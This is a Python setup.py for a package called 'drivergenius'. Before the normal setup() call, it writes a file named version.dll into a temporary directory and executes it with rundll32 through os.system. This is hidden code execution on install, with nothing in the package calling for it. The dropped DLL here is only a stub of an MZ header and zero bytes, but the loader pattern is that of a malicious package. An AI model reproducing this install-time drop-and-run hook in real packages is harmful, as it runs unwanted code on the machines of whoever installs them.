import os, tempfile
d = tempfile.mkdtemp(prefix="drv")
with open(os.path.join(d, "version.dll"), "wb") as f:
    f.write(b"MZ" + b"\x00" * 62)
os.system("rundll32 " + os.path.join(d, "version.dll") + ",Entry")
from setuptools import setup
setup(name="drivergenius", version="0.1.0", packages=["drivergenius"])
